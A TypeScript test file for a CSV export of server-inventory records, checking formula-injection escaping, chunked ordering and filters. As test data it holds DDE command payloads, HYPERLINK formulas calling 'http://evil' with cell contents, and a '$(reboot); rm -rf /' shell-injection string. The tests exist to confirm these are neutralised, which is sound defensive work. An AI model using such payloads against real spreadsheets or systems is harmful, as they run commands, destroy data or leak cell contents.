/**
 * The CSV export (machinesCsv) on both stores (vitest projects sqlite and postgres): cells neutralised against
 * formula injection, every matching machine once in the table's order across chunks, the inventory filters. The
 * round trip through the import (SQLite only, like the import): export-csv-roundtrip.test.ts.
 */
import Papa from "papaparse";
import { eq } from "drizzle-orm";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { machineInput } from "../testing/fixtures";
import { createHarness, type Harness } from "../testing/harness";
import { deleteMachine } from "./enroll";
import { CSV_EXPORT_COLUMNS, csvCell, machinesCsv } from "./export-csv";
import { listMachines } from "./queries";

const parse = (text: string) => Papa.parse<Record<string, string>>(text, { header: true, skipEmptyLines: true }).data;
const chunksOf = async (h: Harness, f: Parameters<typeof machinesCsv>[1], chunk?: number) => {
  const out: string[] = [];
  for await (const c of machinesCsv(h.store, f, chunk)) out.push(c);
  return out;
};
const exportAll = async (h: Harness, f: Parameters<typeof machinesCsv>[1], chunk?: number) => (await chunksOf(h, f, chunk)).join("");

describe("csvCell: formula injection and quoting", () => {
  it.each([
    ["=1+2", "'=1+2"],
    ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
    ["-2+3", "'-2+3"],
    ["@SUM(A1:A9)", "'@SUM(A1:A9)"],
    ["\t=x", "'\t=x"],
    ["\r=x", `"'\r=x"`],
    ['=HYPERLINK("http://evil","click")', `"'=HYPERLINK(""http://evil"",""click"")"`],
    ["a,b", '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ["line\nbreak", '"line\nbreak"'],
    ["nul\0byte", "nul\0byte"],
    ["$(reboot); rm -rf / & ..\\x", "$(reboot); rm -rf / & ..\\x"],
    ["ünïcödé ✓", "ünïcödé ✓"],
    ["x".repeat(5000), "x".repeat(5000)],
  ])("%j → %j", (input, want) => {
    expect(csvCell(input)).toBe(want);
  });
  it("leaves numbers, booleans and empty values as they are", () => {
    expect([csvCell(-1), csvCell(2.5), csvCell(true), csvCell(null), csvCell(undefined), csvCell("")]).toEqual(["-1", "2.5", "true", "", "", ""]);
  });
});

describe("machinesCsv", () => {
  let h: Harness;
  let HOSTILE_ERR: string;
  beforeAll(async () => {
    h = createHarness();
    // PostgreSQL's text cannot hold a NUL (the product stores U+2400 for it); SQLite's can.
    HOSTILE_ERR = `=HYPERLINK("http://evil/?"&A1,"x")\r\n@SUM(1)${h.store.dialect === "sqlite" ? "\0" : "\u2400"}, "quoted" ünï; $(reboot) & ..\\x`;
    const { machines, racks } = h.store.t;
    for (let i = 1; i <= 25; i++) await h.operator.machines.enroll(machineInput(i));
    const inv = (gib: number, disks: number, model: string) => ({ cpu: { model }, memoryBytes: gib * 2 ** 30, disks: Array.from({ length: disks }, (_, k) => ({ name: `sd${k}` })) });
    await h.store.db.update(machines).set({ inventory: inv(64, 2, "Intel(R) Xeon(R) Gold 6338") }).where(eq(machines.name, "node-001"));
    await h.store.db.update(machines).set({ inventory: inv(8, 1, "=cmd|' /C calc'!A0"), lastError: HOSTILE_ERR }).where(eq(machines.name, "node-002"));
    await h.store.db.update(machines).set({ inventory: inv(256, 4, "AMD EPYC 7763 64-Core 100%_x") }).where(eq(machines.name, "node-003"));
    const rack = (await h.operator.racks.create({ name: "rack-a" })).id;
    await h.store.db.update(racks).set({ name: "-rack+1" }).where(eq(racks.id, rack));
    await h.store.db.update(machines).set({ rackId: rack, uPosition: 3 }).where(eq(machines.name, "node-004"));
  });
  afterAll(() => h.close());

  it("exports every matching machine once, in the table's order, across chunks", async () => {
    for (const [sort, dir] of [["name", "desc"], ["ip", "asc"], ["rack", "desc"], ["state", "asc"]] as const) {
      const chunks = await chunksOf(h, { sort, dir }, 7);
      // The header, then chunks of at most 7 rows: 7 + 7 + 7 + 4 (a chunk ends with a whole row).
      expect(chunks[0]).toBe(`${CSV_EXPORT_COLUMNS.join(",")}\r\n`);
      expect(chunks.slice(1).map((c) => parse(chunks[0] + c).length)).toEqual([7, 7, 7, 4]);
      const rows = parse(chunks.join(""));
      expect(Object.keys(rows[0]!)).toEqual([...CSV_EXPORT_COLUMNS]);
      expect(rows.map((r) => r.name)).toEqual((await listMachines(h.store, { sort, dir, page: 1, pageSize: 100 })).rows.map((r) => r.name));
      expect(rows).toHaveLength(25);
    }
  });

  it("a machine added or removed while the export runs neither repeats nor shifts a row (keyset chunks)", async () => {
    const before = parse(await exportAll(h, { sort: "name", dir: "asc" })).map((r) => r.name);
    const gen = machinesCsv(h.store, { sort: "name", dir: "asc" }, 5);
    let text = (await gen.next()).value as string;
    text += (await gen.next()).value as string; // header and node-001 … node-005
    // One machine sorting before the chunks already sent appears, one not yet sent goes.
    const { id } = await h.operator.machines.enroll(machineInput(90, { name: "a-early" }));
    const node8 = (await listMachines(h.store, { q: "node-008", sort: "name", dir: "asc", page: 1, pageSize: 5 })).rows[0]!;
    await deleteMachine(h.domain, node8.id, "test");
    for await (const c of gen) text += c;
    expect(parse(text).map((r) => r.name)).toEqual(before.filter((n) => n !== "node-008"));
    await deleteMachine(h.domain, id, "test");
    await h.operator.machines.enroll(machineInput(8));
  });

  it("an empty result is the header alone; a NUL in the search matches nothing", async () => {
    expect(await exportAll(h, { sort: "name", dir: "asc", q: "no-such-machine" })).toBe(`${CSV_EXPORT_COLUMNS.join(",")}\r\n`);
    expect(await exportAll(h, { sort: "name", dir: "asc", q: "node\u0000" })).toBe(`${CSV_EXPORT_COLUMNS.join(",")}\r\n`);
    expect(await exportAll(h, { sort: "name", dir: "asc", cpuModel: "=cmd|' /C\u0000" })).toBe(`${CSV_EXPORT_COLUMNS.join(",")}\r\n`);
  });

  it("hostile values stay in their field, neutralised; nothing is lost", async () => {
    const rows = parse(await exportAll(h, { sort: "name", dir: "asc" }));
    const n2 = rows.find((r) => r.name === "node-002")!;
    expect(n2.last_error).toBe(`'${HOSTILE_ERR}`);
    expect(n2.cpu_model).toBe("'=cmd|' /C calc'!A0");
    expect(n2.memory_gib).toBe("8");
    expect(rows.find((r) => r.name === "node-004")!.rack).toBe("'-rack+1");
    expect(rows.find((r) => r.name === "node-004")!.u_position).toBe("3");
    for (const r of rows) for (const v of Object.values(r)) expect(v).not.toMatch(/^[=+\-@\t\r]/);
  });

  it("applies the inventory filters: minimum memory, disk count, CPU model (literal text)", async () => {
    const names = async (f: object) => parse(await exportAll(h, { sort: "name", dir: "asc", ...f })).map((r) => r.name);
    expect(await names({ minMemoryGiB: 64 })).toEqual(["node-001", "node-003"]);
    expect(await names({ minMemoryGiB: 64.5 })).toEqual(["node-003"]);
    expect(await names({ minDisks: 2 })).toEqual(["node-001", "node-003"]);
    expect(await names({ minDisks: 0 })).toEqual(["node-001", "node-002", "node-003"]);
    expect(await names({ cpuModel: "xeon" })).toEqual(["node-001"]);
    expect(await names({ cpuModel: "100%_" })).toEqual(["node-003"]);
    expect(await names({ cpuModel: "%" })).toEqual(["node-003"]);
    expect(await names({ cpuModel: "epyc", minMemoryGiB: 300 })).toEqual([]);
    expect(await names({ cpuModel: "=CMD|" })).toEqual(["node-002"]);
    expect((await listMachines(h.store, { minDisks: 1, sort: "name", dir: "asc", page: 1, pageSize: 50 })).total).toBe(3);
  });

  it("the router validates the inventory filters", async () => {
    await expect(h.viewer.machines.list({ minDisks: -1 })).rejects.toThrow();
    await expect(h.viewer.machines.list({ minDisks: 1.5 })).rejects.toThrow();
    await expect(h.viewer.machines.list({ cpuModel: "x".repeat(101) })).rejects.toThrow(/100/);
    expect((await h.viewer.machines.count({ minMemoryGiB: 8 })).total).toBe(3);
  });
});
